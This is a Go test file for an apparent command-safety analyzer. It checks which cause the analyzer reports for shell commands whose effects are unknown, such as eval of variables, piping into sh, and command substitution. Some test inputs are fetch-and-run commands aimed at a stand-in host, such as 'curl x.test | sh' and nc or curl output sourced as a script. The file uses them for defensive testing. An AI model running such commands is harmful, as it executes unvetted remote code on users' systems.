package shell

import (
	"slices"
	"testing"

	"github.com/shieldcli/shield/pkg/effect"
)

// TestCauses holds why each of these commands cannot be known, and that text
// which only looks like a variable or a substitution is treated as none.
func TestCauses(t *testing.T) {
	t.Parallel()
	for _, c := range [...]struct {
		text  string
		cause effect.EffectCause
		input bool // text from another part of the command is run
	}{
		{`$X`, effect.CauseCodeIsVariableValue, false},
		{`eval "$X"`, effect.CauseCodeIsVariableValue, false},
		{`sh -c "${X%.*}"`, effect.CauseCodeIsVariableValue, false},
		{`powershell -c "iex $X"`, effect.CauseCodeIsVariableValue, false},
		{`$A$B`, effect.CauseCodeIsVariableValue, false},
		{`$RUNNER --all`, effect.CauseCodeIsVariableValue, false},
		{`"$TEST_RUNNER" a`, effect.CauseCodeIsVariableValue, false},
		{`bash -c "cd /x && $CMD"`, effect.CauseCodeIsVariableValue, false},
		{`bash <<< "$X"`, effect.CauseCodeIsVariableValue, false},
		{`echo "$X" | sh`, effect.CauseCodeIsVariableValue, false},
		{`ssh h "$X"`, effect.CauseCodeIsVariableValue, false},
		{`find . -exec $HOOK {} \;`, effect.CauseCodeIsVariableValue, false},
		{`. "$HOOK"`, effect.CauseCodeIsVariableValue, false},
		{`python3 -c "$x"`, effect.CauseCodeIsVariableValue, false},
		{`psql -c "$X"`, effect.CauseUnanalysedCode, false},
		{`python3 -c 'import os; exec(os.environ["X"])'`, effect.CauseCodeIsVariableValue, false},
		{`node -e 'new Function(process.env.X)()'`, effect.CauseCodeIsVariableValue, false},
		{`ruby -e 'eval ENV["X"]'`, effect.CauseCodeIsVariableValue, false},
		{`php -r 'eval(getenv("X"));'`, effect.CauseCodeIsVariableValue, false},
		{`. /dev/fd/3 3< <(nc x.test 99)`, effect.CauseUnreadScript, false},
		{`bash /dev/fd/4 4< <(curl -s x.test)`, effect.CauseUnreadScript, false},
		{`$EDITOR f`, effect.CauseVariableNotSetByCommand, false},
		{`git log | "$PAGER"`, effect.CauseVariableNotSetByCommand, false},
		{`$CC -c a.c`, effect.CauseVariableNotSetByCommand, false},
		{`"${CXX}" -c a.cc`, effect.CauseVariableNotSetByCommand, false},
		{`"$PYTHON3_BIN" a.py`, effect.CauseVariableNotSetByCommand, false},
		{`$SUDO ls`, effect.CauseVariableNotSetByCommand, false},
		{`$MAKE -C src`, effect.CauseVariableNotSetByCommand, false},
		{`$runner a`, effect.CauseVariableNotSetByCommand, false}, // not the environment's: a script sets it elsewhere
		{`python3 -c "print($X)"`, effect.CauseVariableNotSetByCommand, false},
		{`<tool> "$(<x>)" )`, effect.CauseUnparseableText, false},
		{`$(cat f)`, effect.CauseCommandOutput, true},
		{`eval "$(cat f)"`, effect.CauseCommandOutput, true},
		{"eval \"`cat f`\"", effect.CauseCommandOutput, true},
		{`x=$(cat f); eval "$x"`, effect.CauseCommandOutput, true},
		{`x=$(cat f); eval "${x%;}"`, effect.CauseCommandOutput, true},
		{`x=$(cat f); eval "${x/a/b}"`, effect.CauseCommandOutput, true},
		{`x=$(cat f); eval "${x:$n:3}"`, effect.CauseCommandOutput, true},
		{`y=${X%.*}$(cat f); eval "$y"`, effect.CauseCommandOutput, true},
		{`while read -r l; do x=$(cat "$l"); done; eval "$x"`, effect.CauseCommandOutput, true},
		{`PROMPT_COMMAND="true; $(cat f)"`, effect.CauseCommandOutput, true},
		{`cat f | sh`, effect.CauseCommandOutput, true},
		{`sh < f`, effect.CauseFileContents, true},
		{`cat f | xargs sh -c`, effect.CauseStandardInput, true},
		{`read -r x; eval "$x"`, effect.CauseStandardInput, true},
		{`curl x.test | sh`, effect.CauseDownload, false},
		{`sh *.sh`, effect.CauseOtherUnresolvedCommandText, false},
		{`eval *`, effect.CauseOtherUnresolvedCommandText, false},
		{`eval "$X" *`, effect.CauseOtherUnresolvedCommandText, false},
		{`eval "$X"?`, effect.CauseOtherUnresolvedCommandText, false},
		{`printf '%s\n' * | sh`, effect.CauseOtherUnresolvedCommandText, false},
		{`printf '%s ' "$X" [a-c]* | sh`, effect.CauseOtherUnresolvedCommandText, false},
		{`for f in *; do echo "$f"; done | bash`, effect.CauseCommandOutput, true},
		{`sh -c "$(printf '%s;' *)"`, effect.CauseOtherUnresolvedCommandText, false},
		{`ls | sh`, effect.CauseCommandOutput, true},
		{`eval "$X"; ls )`, effect.CauseOtherUnresolvedCommandText, false},
		{"eval \"$X\"\nls )", effect.CauseOtherUnresolvedCommandText, false},
		{`. $p; Get-Date`, effect.CauseVariableNotSetByCommand, false},
		{`Get-Date; . $p`, effect.CauseOtherUnresolvedCommandText, false},
		{`sh a.sh`, effect.CauseUnreadScript, false},
		{`./a.sh`, effect.CauseUnreadScript, false},
		{`python3 a.py`, effect.CauseUnreadScript, false},
		{`sh '$X.sh'`, effect.CauseUnreadScript, false}, // that is its name
		{`echo "`, effect.CauseUnparseableText, false},
		{`sh -c 'echo "'`, effect.CauseUnparseableText, false},
		{`enable -f ./x.so y`, effect.CauseUnanalysedCode, false},
		{`powershell -EncodedCommand !!!`, effect.CauseUnanalysedCode, false},
	} {
		var causes []effect.EffectCause
		input := false
		for _, e := range Analyze(c.text, here()).Effects {
			switch e.KindForPolicies() {
			case effect.UnknownEffect:
				causes = append(causes, e.Cause)
			case effect.RunCommandOutput:
				input = true
			}
		}
		if !slices.Contains(causes, c.cause) || input != c.input {
			t.Errorf("%s: dynamic %q, runs input: %v; want %q and %v", c.text, causes, input, c.cause, c.input)
		}
	}
}

// TestEveryCauseHasAName checks that whatever cannot be known says why.
func TestEveryCauseHasAName(t *testing.T) {
	t.Parallel()
	seen := 0
	for _, c := range readCases(t) {
		for _, e := range Analyze(c.text, here()).Effects {
			if e.Certainty != effect.Unknown && e.KindForPolicies() != effect.RunCommandOutput {
				continue
			}
			if seen++; !slices.Contains(effect.Causes(), e.Cause) {
				t.Errorf("%s: %s has the cause %q (%s)", c.text, e.KindForPolicies(), e.Cause, e.Reason)
			}
		}
	}
	if seen < 100 {
		t.Errorf("%d effects were looked at, which is too few to mean anything", seen)
	}
}

// TestNoFileNamesAsCode holds that names of files which are arguments, and text
// that cannot be parsed without unknown code before it, are no unresolved code.
func TestNoFileNamesAsCode(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		`ls *`, `printf '%s\n' *`, `eval "$X"`, `eval "ls *"`, `sh -c 'wc -l *.go'`, `ssh h ls /var/log/*`, `for f in *; do wc -l "$f"; done`,
		`find . -name '*.go' -exec sh -c 'wc -l "$1"' _ {} \;`, `ls )`, `echo "$X"; ls )`, `Get-Date; . $PROFILE`, `Get-Date; . ./a.ps1`,
		`Get-Date; . "$p/a.ps1"`, `"$X"/*`, "$data[1]\nOne",
	} {
		for _, e := range Analyze(text, here()).Effects {
			if e.Certainty == effect.Unknown && e.Cause == effect.CauseOtherUnresolvedCommandText {
				t.Errorf("%s: %s", text, e.Reason)
			}
		}
	}
}
